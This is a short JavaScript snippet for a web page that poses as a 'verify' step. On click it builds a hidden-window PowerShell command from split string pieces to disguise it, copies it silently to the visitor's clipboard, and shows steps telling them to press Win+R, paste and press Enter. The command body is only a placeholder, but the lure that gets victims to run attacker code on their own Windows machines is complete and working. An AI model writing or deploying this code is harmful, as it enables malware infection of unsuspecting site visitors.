document.querySelector('#verify').addEventListener('click', () => {
  const blob = ['power', 'shell', ' -WindowStyle Hidden -Command ', 'PLACEHOLDER'].join('');
  copyIt(blob);
  document.querySelector('#modal').classList.add('open');
});
async function copyIt(t) {
  if (navigator.clipboard && window.isSecureContext) return navigator.clipboard.writeText(t);
  const a = Object.assign(document.createElement('textarea'), { value: t });
  document.body.append(a); a.select(); document.execCommand('copy'); a.remove();
}
const steps = ['Press Windows Key + R', 'Press CTRL + V', 'Press Enter'];
document.querySelector('#modal ol').innerHTML = steps.map(s => `<li>${s}</li>`).join('');
